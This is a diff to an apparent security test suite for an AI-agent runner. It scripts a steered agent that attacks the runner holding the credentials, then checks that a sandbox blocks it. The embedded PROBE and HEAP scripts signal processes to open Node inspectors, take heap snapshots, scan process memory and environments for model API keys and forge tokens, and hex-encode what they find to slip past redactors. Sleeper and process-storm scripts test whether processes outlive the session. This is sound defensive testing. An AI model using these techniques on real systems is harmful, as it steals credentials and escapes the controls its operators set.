@@ -28,14 +28,15 @@ const MAX_PROCESSES = 128;
 /** Everything a steered agent tries against the process holding the credentials. Run as a script. */
 const PROBE = String.raw`#!/bin/bash
 echo "uid=$(id -u) ppid=$PPID pid1=$(tr '\0' ' ' < /proc/1/cmdline)"
-# Node opens its inspector on SIGUSR1: the parent (the runner, once), and PID 1.
+# Node opens its inspector on SIGUSR1: the parent (the runner, before the sandbox), and PID 1.
 kill -USR1 "$PPID" 2>/dev/null; echo "usr1-parent=$?"
 kill -USR1 1 2>/dev/null; echo "usr1-pid1=$?"
 sleep 2
-inspector=$( (exec 3<>/dev/tcp/127.0.0.1/9229 && printf 'GET /json/list HTTP/1.0\r\n\r\n' >&3 && timeout 3 cat <&3) 2>/dev/null | grep -c 'runner.mjs')
-echo "inspector-runner=$inspector"
+# Any inspector the runner's or the sandbox's uid now listens on (any port): a heap snapshot of each.
+node heap.mjs 10001 10002
 echo "visible=$(ls -d /proc/[0-9]* | wc -l)"
-echo "runner-visible=$(for f in /proc/[0-9]*/environ; do tr '\0' '\n' < "$f" 2>/dev/null | grep -c '^AGENTFACTORY_STAGE='; done | awk '{ s += $1 } END { print s + 0 }')"
+# The runner, by its command line (readable for any process): node running runner.mjs, not as the sandbox.
+echo "runner-visible=$(for f in /proc/[0-9]*/cmdline; do tr '\0' ' ' < "$f"; echo; done 2>/dev/null | grep 'runner\.mjs' | grep -vc ' sandbox *$')"
 echo "private-dir=$(ls -d /home/runner/.agentfactory 2>/dev/null | wc -l)"
 echo "--- env"; env
 echo "--- /proc/1/environ"; tr '\0' '\n' < /proc/1/environ
@@ -48,9 +49,53 @@ for d in /proc/[0-9]*; do
     case "$perms" in rw*) ;; *) continue ;; esac
     start=$((16#$(echo "$range" | cut -d- -f1))); end=$((16#$(echo "$range" | cut -d- -f2)))
     dd if="$d/mem" bs=1M iflag=skip_bytes,count_bytes skip="$start" count="$((end - start))" 2>/dev/null
-  done < "$d/maps" 2>/dev/null
-done | grep -a -o -E 'sk-ant-[A-Za-z0-9_-]{8,}|ghs_[A-Za-z0-9]{20,}' | sort -u | od -An -v -tx1 | tr -d ' \n'; echo
+  done < "$d/maps"
+done 2>/dev/null | grep -a -o -E 'sk-ant-[A-Za-z0-9_-]{8,}|ghs_[A-Za-z0-9]{20,}' | sort -u | od -An -v -tx1 | tr -d ' \n'; echo
 echo "--- end"
+`;
+
+/**
+ * The inspector half of the attack: finds loopback listeners of the given uids (/proc/net/tcp), asks
+ * each for its inspector targets, takes a heap snapshot of every one, and prints the secrets it holds
+ * as hex (which no redactor of text knows).
+ */
+const HEAP = String.raw`import fs from "node:fs";
+const uids = new Set(process.argv.slice(2));
+const ports = new Set();
+for (const f of ["/proc/net/tcp", "/proc/net/tcp6"]) {
+  let text = "";
+  try { text = fs.readFileSync(f, "utf8"); } catch {}
+  for (const line of text.split("\n").slice(1)) {
+    const c = line.trim().split(/\s+/);
+    if (c[3] === "0A" && uids.has(c[7])) ports.add(parseInt(c[1].split(":")[1], 16));
+  }
+}
+let targets = 0;
+const found = new Set();
+for (const port of ports) {
+  let list = [];
+  try { list = await (await fetch("http://127.0.0.1:" + port + "/json/list", { signal: AbortSignal.timeout(2000) })).json(); } catch {}
+  for (const t of Array.isArray(list) ? list : []) {
+    if (!t.webSocketDebuggerUrl) continue;
+    targets++;
+    const snapshot = await new Promise((resolve) => {
+      const ws = new WebSocket(t.webSocketDebuggerUrl);
+      const chunks = [];
+      const done = () => { clearTimeout(timer); try { ws.close(); } catch {} resolve(chunks.join("")); };
+      const timer = setTimeout(done, 60000);
+      ws.onopen = () => ws.send(JSON.stringify({ id: 1, method: "HeapProfiler.takeHeapSnapshot" }));
+      ws.onmessage = (e) => {
+        const m = JSON.parse(e.data);
+        if (m.method === "HeapProfiler.addHeapSnapshotChunk") chunks.push(m.params.chunk);
+        else if (m.id === 1) done();
+      };
+      ws.onerror = done;
+    });
+    for (const s of snapshot.match(/sk-ant-[A-Za-z0-9_-]{8,}|ghs_[A-Za-z0-9]{20,}/g) ?? []) found.add(s);
+  }
+}
+console.log("inspectors=" + targets);
+console.log("heap-secrets=" + Buffer.from([...found].join("\n")).toString("hex"));
 `;
 
 const SLEEPER_START = String.raw`setsid sh -c 'echo $$ > /tmp/af-sleeper.pid; exec sleep 600' < /dev/null > /dev/null 2>&1 &
@@ -75,6 +120,7 @@ echo "storm-processes=$#"
 const SCRIPT = [
   turn(
     toolUse("Write", { file_path: "probe.sh", content: PROBE }),
+    toolUse("Write", { file_path: "heap.mjs", content: HEAP }),
     toolUse("Write", { file_path: "sleeper-start.sh", content: SLEEPER_START }),
     toolUse("Write", { file_path: "sleeper-check.sh", content: SLEEPER_CHECK }),
     toolUse("Write", { file_path: "storm.sh", content: STORM }),
@@ -221,7 +267,8 @@ describe("the agent's commands run in a sandbox without the runner's secrets", (
       runner.command = ["node", "/opt/agentfactory/runner.mjs"];
       runner.env = [
         ...runner.env!.filter((e) => e.name !== "AGENTFACTORY_SANDBOX_SOCKET"),
-        { name: "NODE_OPTIONS", value: "--enable-source-maps" },
+        // Port 0: the inspector SIGUSR1 opens takes a free port (the pods share the host's network).
+        { name: "NODE_OPTIONS", value: "--enable-source-maps --inspect-port=0" },
       ];
     });
   }, 600_000);
@@ -255,7 +302,8 @@ describe("the agent's commands run in a sandbox without the runner's secrets", (
   });
 
   it("SIGUSR1 opens no inspector: not on the sandbox's processes, and the runner cannot be signalled", () => {
-    expect(sandboxed.probe["inspector-runner"]).toBe("0");
+    expect(sandboxed.probe.inspectors).toBe("0");
+    expect(sandboxed.probe["heap-secrets"]).toBe("");
     for (const log of [sandboxed.logs.runner, sandboxed.logs.sandbox])
       expect(log).not.toMatch(/Debugger listening|Starting inspector/);
   });
@@ -282,14 +330,20 @@ describe("the agent's commands run in a sandbox without the runner's secrets", (
     expect(ls?.content).toMatch(/^etc$/m);
   });
 
-  it("positive control: without the sandbox the same attack reads the key from the runner's memory and opens its inspector; nothing bounds a storm", () => {
+  it("positive control: without the sandbox SIGUSR1 opens the runner's inspector and its heap gives up the key and the token; nothing bounds a storm", () => {
     expect(control.probeText).toContain("--- end");
     expect(control.probe.uid).toMatch(/^10001 /);
     expect(Number(control.probe["runner-visible"])).toBeGreaterThan(0);
-    const memory = section(control, "secrets in memory (hex)");
-    expect(memory).toContain(hex(TEST_MODEL_KEY));
-    expect(memory).toContain(hex(control.token));
-    expect(control.logs.runner).toMatch(/Debugger listening|Starting inspector/);
+    expect(control.probe["private-dir"]).toBe("1");
+    // SIGUSR1 opened the runner's inspector, and its heap holds the model key and the forge token.
+    expect(control.logs.runner).toMatch(/Debugger listening/);
+    expect(Number(control.probe.inspectors)).toBeGreaterThan(0);
+    expect(control.probe["heap-secrets"]).toContain(hex(TEST_MODEL_KEY));
+    expect(control.probe["heap-secrets"]).toContain(hex(control.token));
+    // Its memory and environment, though, stay closed even to its own uid: node is execute-only in the
+    // image, which makes the runner non-dumpable.
+    expect(section(control, "secrets in memory (hex)")).toBe("");
+    expect(section(control, "/proc/1/environ")).toMatch(/Permission denied/);
     expect(Number(control.probe["storm-processes"])).toBeGreaterThan(300);
   });
 });
